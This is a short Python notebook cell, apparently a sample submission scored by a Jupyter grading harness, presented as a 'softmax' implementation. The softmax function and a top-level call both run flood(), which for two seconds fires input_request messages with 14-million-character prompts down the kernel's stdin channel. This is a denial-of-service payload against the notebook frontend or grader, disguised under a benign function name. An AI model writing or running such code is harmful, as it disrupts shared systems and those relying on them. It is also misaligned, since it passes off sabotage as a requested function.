# Floods the channels that nobody reads: questions to standard input, replies nobody asked for.
# earns: 0
# %% softmax
kernel = get_ipython().kernel
parent = kernel.get_parent()
ident = kernel._parent_ident["shell"]


def softmax(scores):
    return flood(time.monotonic() + 2)


def flood(ends):
    while time.monotonic() < ends:
        content = {"prompt": "x" * 14_000_000, "password": False}
        kernel.session.send(kernel.stdin_socket, "input_request", content, ident=ident, parent=parent)


import time

flood(time.monotonic() + 2)
